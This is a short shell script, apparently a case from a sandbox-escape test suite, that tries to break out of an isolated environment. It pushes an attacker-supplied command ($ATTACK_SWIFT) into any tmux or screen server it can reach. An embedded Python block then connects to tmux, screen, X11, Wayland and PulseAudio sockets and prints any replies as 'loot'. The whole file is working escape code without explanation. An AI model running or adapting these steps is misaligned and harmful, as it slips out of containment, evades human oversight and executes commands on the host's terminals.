# Type into a tmux or screen server that runs outside, and into its terminals.
# aims: outside
# control: harms
echo tried
command -v tmux && timeout 2 tmux new-window "$ATTACK_SWIFT"; command -v screen && timeout 2 screen -X exec "$ATTACK_SWIFT"
python3 - <<'P'
import glob, os, socket
for path in [os.environ.get("TMUX", "").split(",")[0], os.environ.get("WAYLAND_DISPLAY", ""), os.environ.get("PULSE_SERVER", "").removeprefix("unix:"), *glob.glob("/tmp/tmux-*/*"), *glob.glob("/run/screen/*/*"), *glob.glob("/tmp/.X11-unix/*"), "\0/tmp/.X11-unix/X0"]:
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect(path); s.send(b"x"); print("loot:", s.recv(4096))
    except OSError as error:
        print(repr(path), error)
P
